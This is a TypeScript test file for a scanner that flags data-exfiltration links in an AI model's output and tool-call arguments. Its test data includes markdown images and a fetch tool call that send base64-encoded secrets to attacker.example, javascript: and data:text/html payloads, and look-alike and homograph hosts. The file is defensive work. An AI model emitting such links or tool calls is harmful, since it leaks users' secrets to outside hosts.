import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ScanContext, ScannerFinding } from '../../src/core/types.js';
import {
  exfilLinks,
  extractLinks,
  findExfilLinks,
  type ExfilLinksSettings,
} from '../../src/scanners/exfil-links.js';

const SECRET = 'my password is hunter2 and the API key is sk-live-0042';
const DATA = Buffer.from(SECRET).toString('base64');

function ctx(options: ExfilLinksSettings = {}): ScanContext<ExfilLinksSettings> {
  return {
    stage: 'output',
    trust: 'system',
    original: '',
    options,
    canaries: [],
    systemPrompts: [],
    log: { warn: () => undefined },
  };
}

const scan = (text: string, options: ExfilLinksSettings = {}): readonly ScannerFinding[] =>
  exfilLinks.scan(text, ctx(options));
const spanText = (text: string, f: ScannerFinding | undefined): string =>
  f?.span ? text.slice(f.span[0], f.span[1]) : '';

describe('extractLinks', () => {
  it('finds every kind of destination with its span', () => {
    const text = [
      '![chart](https://a.io/1.png "title") and [docs](<https://b.io/x y>)',
      '![alt with [nested] brackets](https://c.io/2.png)',
      '![logo][ref] <https://d.io/auto> then https://e.io/bare.',
      '<img alt="x" src="https://f.io/3.png"> <a href=\'https://g.io/\'>g</a> <iframe src=https://h.io/f></iframe>',
      '<script src="https://i.io/s.js"></script> <link rel="stylesheet" href="https://j.io/s.css">',
      '<img srcset="https://k.io/a.png 1x, https://l.io/b.png 2x"> <div style="background: url(\'https://m.io/bg.png\')">',
      '',
      '[ref]: https://n.io/ref.png "Logo"',
    ].join('\n');
    const links = extractLinks(text);
    const byUrl = Object.fromEntries(links.map((l) => [l.url, l]));
    const expected: Array<[string, string, boolean]> = [
      ['https://a.io/1.png', 'markdown_image', true],
      ['https://b.io/x y', 'markdown_link', false],
      ['https://c.io/2.png', 'markdown_image', true],
      ['https://d.io/auto', 'autolink', false],
      ['https://e.io/bare', 'bare', false],
      ['https://f.io/3.png', 'html_img', true],
      ['https://g.io/', 'html_a', false],
      ['https://h.io/f', 'html_iframe', true],
      ['https://i.io/s.js', 'html_other', true],
      ['https://j.io/s.css', 'html_other', true],
      ['https://k.io/a.png', 'html_img', true],
      ['https://l.io/b.png', 'html_img', true],
      ['https://m.io/bg.png', 'css_url', true],
      ['https://n.io/ref.png', 'reference', true],
    ];
    for (const [url, kind, autoLoads] of expected) {
      const link = byUrl[url];
      expect(link?.kind, url).toBe(kind);
      expect(link?.autoLoads, url).toBe(autoLoads);
      expect(text.slice(...(link?.span ?? [0, 0])), url).toBe(url);
    }
    expect(links).toHaveLength(expected.length);
  });

  it('decodes HTML entities and markdown escapes but keeps the raw span', () => {
    const text = '<a href="jav&#x61;script&colon;alert(1)">x</a> [y](https://a.io/\\(z\\))';
    const [a, b] = extractLinks(text);
    expect(a?.url).toBe('javascript:alert(1)');
    expect(text.slice(...(a?.span ?? [0, 0]))).toBe('jav&#x61;script&colon;alert(1)');
    expect(b?.url).toBe('https://a.io/(z)');
  });

  it('strips trailing punctuation and unbalanced brackets from bare URLs', () => {
    const urls = extractLinks('See (https://a.io/x_(y)), or https://b.io/?q=1. Also **https://c.io/z**!').map(
      (l) => l.url,
    );
    expect(urls).toEqual(['https://a.io/x_(y)', 'https://b.io/?q=1', 'https://c.io/z']);
  });

  it('reads JSON-escaped URLs in tool-call arguments', () => {
    const [l] = extractLinks('{"url":"https:\\/\\/evil.io\\/c?d=abc"}');
    expect(l?.url).toBe('https://evil.io/c?d=abc');
  });
});

describe('exfil-links', () => {
  it('flags a markdown image to an attacker host with data, with the URL as span', () => {
    const url = `https://attacker.example/pixel.png?d=${DATA}`;
    const text = `Here is your summary.\n\n![loading](${url})`;
    const [f, ...rest] = scan(text);
    expect(rest).toEqual([]);
    expect(f?.category).toBe('exfil.link');
    expect(f?.score).toBe(0.9);
    expect(spanText(text, f)).toBe(url);
    expect(f?.signals).toEqual(
      expect.arrayContaining(['markdown_image', 'not_allowlisted', 'base64', 'long_param']),
    );
  });

  it('ignores allowlisted hosts and their subdomains', () => {
    const text = `![a](https://example.com/a.png?d=${DATA}) ![b](https://cdn.example.com/b.png?d=${DATA})`;
    expect(scan(text, { allowHosts: ['example.com'] })).toEqual([]);
    expect(scan(text, { allowHosts: ['EXAMPLE.com.'] })).toEqual([]);
    // An exact host does not allow its siblings or parent.
    expect(scan(text, { allowHosts: ['cdn.example.com'] })).toHaveLength(1);
  });

  it('is not fooled by look-alike hosts', () => {
    const allow = { allowHosts: ['example.com'] };
    for (const host of [
      'example.com.evil.io',
      'evilexample.com',
      'example.co',
      'example.com@evil.io',
      'evil.io#@example.com',
    ]) {
      const text = `![x](https://${host}/p.png?d=${DATA})`;
      expect(scan(text, allow).length, host).toBeGreaterThan(0);
    }
    // Browsers read a backslash as a slash in http(s) URLs: the host is evil.io, not example.com.
    // (In markdown, `\@` is an escaped `@`, so there the host really is example.com.)
    expect(scan(`<img src="https://evil.io\\@example.com/p.png?d=${DATA}">`, allow)).toHaveLength(1);
  });

  it('flags an IDN homograph host, compared in punycode', () => {
    const text = '[Sign in](https://exаmple.com/login)'; // Cyrillic а
    const [f] = scan(text, { allowHosts: ['example.com'] });
    expect(f?.signals).toContain('idn_host');
    expect(f?.message).toContain('xn--');
    // A genuine IDN entry on the allowlist is matched in its ASCII form.
    expect(scan('![x](https://bücher.de/a.png)', { allowHosts: ['bücher.de'] })).toEqual([]);
    expect(scan('![x](https://xn--bcher-kva.de/a.png)', { allowHosts: ['bücher.de'] })).toEqual([]);
  });

  it('does not let a public suffix allow every site under it', () => {
    expect(scan('![x](https://attacker.github.io/p.png)', { allowHosts: ['github.io'] })).toHaveLength(1);
    expect(scan('![x](https://github.io/p.png)', { allowHosts: ['github.io'] })).toEqual([]);
  });

  it('follows reference-style images to their definition', () => {
    const url = `https://attacker.example/r.gif?q=${DATA}`;
    const text = `Done ![status][s1]\n\n[s1]: ${url}`;
    const [f] = scan(text);
    expect(f?.score).toBe(0.9);
    expect(f?.signals).toContain('reference');
    expect(spanText(text, f)).toBe(url);
    // Collapsed and shortcut references, labels matched case-insensitively; a plain link reference needs a click.
    expect(scan('![Logo][]\n\n[logo]: https://attacker.example/a.png')[0]?.score).toBe(0.6);
    expect(scan('![LOGO]\n\n[Logo]: <https://attacker.example/b.png>')[0]?.score).toBe(0.6);
    expect(scan('[LOGO]\n\n[Logo]: https://attacker.example/c.png')).toEqual([]);
  });

  it('handles nested brackets in alt text', () => {
    const url = `https://attacker.example/i.png?d=${DATA}`;
    const text = `![a [b [c] d] e](${url})`;
    const [f] = scan(text);
    expect(f?.signals).toContain('markdown_image');
    expect(spanText(text, f)).toBe(url);
  });

  it('flags HTML images and frames, even without data', () => {
    const text =
      '<img src="https://attacker.example/t.png"> <iframe src="//attacker.example/frame"></iframe>';
    const found = scan(text);
    expect(found.map((f) => f.score)).toEqual([0.6, 0.6]);
    expect(found.map((f) => f.signals?.[0])).toEqual(['html_img', 'html_iframe']);
    expect(scan(text, { blockAllImages: false })).toEqual([]);
    expect(scan(`<img src="https://attacker.example/t.png?d=${DATA}">`)[0]?.score).toBe(0.9);
  });

  it('always flags javascript: and HTML data: URLs', () => {
    for (const text of [
      '[click](javascript:alert(document.cookie))',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href=" java&#x09;script:alert(1)">x</a>',
      '<iframe src="vbscript:msgbox(1)">',
    ]) {
      const [f] = scan(text, { allowHosts: ['example.com'] });
      expect(f?.signals, text).toContain('javascript_url');
      expect(f?.score).toBe(0.95);
    }
    const html = '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)';
    expect(scan(html)[0]?.signals).toContain('data_url');
    expect(scan(html)[0]?.score).toBe(0.9);
    expect(scan('<a href="data:text/html,<script>alert(1)</script>">x</a>')[0]?.signals).toContain(
      'data_url',
    );
    expect(scan('<iframe src="data:image/svg+xml,<svg onload=alert(1)>">')[0]?.score).toBe(0.9);
    // Inert inline images fetch nothing.
    expect(scan('![dot](data:image/png;base64,iVBORw0KGgo=) <img src="data:image/svg+xml,<svg/>">')).toEqual(
      [],
    );
  });

  it('lets an ordinary docs link through, and scores data-carrying links by strength', () => {
    expect(scan('See the [URL docs](https://developer.mozilla.org/en-US/docs/Web/API/URL/URL).')).toEqual([]);
    expect(scan('Read https://nodejs.org/api/url.html#url_the_whatwg_url_api for details.')).toEqual([]);
    expect(scan(`[report](https://attacker.example/r?d=${DATA})`)[0]?.score).toBe(0.75);
    expect(scan('[search](https://search.example/?q=how+to+reset+my+acme+router+password)')[0]?.score).toBe(
      0.5,
    );
  });

  it('spots data in the path, subdomain and userinfo', () => {
    const path = scan(`![x](https://attacker.example/c/${DATA}.png)`)[0];
    expect(path?.signals).toContain('encoded_path');
    const dns = scan('![x](https://mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjrgm.attacker.example/a.png)')[0];
    expect(dns?.signals).toContain('encoded_subdomain');
    expect(dns?.message).not.toContain('mfrggz');
    expect(scan('[x](https://user:s3cr3t@attacker.example/)')[0]?.signals).toContain('credentials');
    expect(scan('[x](https://attacker.example/?a=1&b=2&c=3&d=4&e=5&f=6)')[0]?.signals).toContain(
      'many_params',
    );
  });

  it('flags exfiltration URLs in tool-call arguments', () => {
    const text = `{"tool":"fetch","args":{"url":"https:\\/\\/attacker.example\\/log?d=${DATA}"}}`;
    const [f] = exfilLinks.scan(text, { ...ctx(), stage: 'tool_call' });
    expect(f?.score).toBe(0.75);
    expect(exfilLinks.stages).toEqual(['output', 'tool_call']);
  });

  it('ignores relative links and text without links', () => {
    expect(scan('![x](/static/a.png?d=' + DATA + ') [y](../docs/page.md)')).toEqual([]);
    expect(scan('plain text with no links at all')).toEqual([]);
  });

  it('reports reaching the link cap', () => {
    const text = '![x](https://a.example/p.png) '.repeat(20);
    const found = scan(text, { maxLinks: 10 });
    expect(found.filter((f) => f.signals?.includes('link_limit'))).toHaveLength(1);
    expect(found).toHaveLength(11);
  });

  it('never throws, keeps spans in bounds and never puts query data in messages', () => {
    // At least minParamLength (24), so every URL carries data by the long_param rule.
    const data = fc.stringMatching(/^[A-Za-z0-9]{24,40}$/);
    const host = fc.constantFrom('attacker.example', 'evil.io', 'example.com.evil.io', 'xn--exmple-4nf.com');
    const wrap = fc.constantFrom(
      (u: string) => `![x](${u})`,
      (u: string) => `[x](${u})`,
      (u: string) => `<img src="${u}">`,
      (u: string) => `<${u}>`,
      (u: string) => ` ${u} `,
      (u: string) => `![x][r]\n\n[r]: ${u}`,
      (u: string) => `<div style="background:url(${u})">`,
    );
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), host, data, wrap, (noise, h, d, w) => {
        const text = `${noise}\n${w(`https://${h}/p?k=${d}&z=${d}#${d}`)}\n${noise}`;
        const found = findExfilLinks(text, { allowHosts: ['example.com'] });
        expect(found.length).toBeGreaterThan(0);
        for (const f of found) {
          expect(f.message).not.toContain(d);
          const [s, e] = f.span ?? [0, 0];
          expect(0 <= s && s < e && e <= text.length).toBe(true);
        }
      }),
      { numRuns: 400 },
    );
    fc.assert(
      fc.property(fc.string({ maxLength: 500 }), (text) => {
        for (const f of findExfilLinks(text)) {
          const [s, e] = f.span ?? [0, 0];
          expect(0 <= s && s <= e && e <= text.length).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
    const alphabet = fc.constantFrom(
      '![',
      '](',
      '[',
      ']',
      '(',
      ')',
      '<img src=',
      '"',
      'http://',
      'a.b',
      '/?q=',
      ' ',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 80 }), (parts) => {
        const text = parts.join('');
        for (const l of extractLinks(text)) expect(l.span[1]).toBeLessThanOrEqual(text.length);
        findExfilLinks(text);
      }),
      { numRuns: 500 },
    );
  });
});
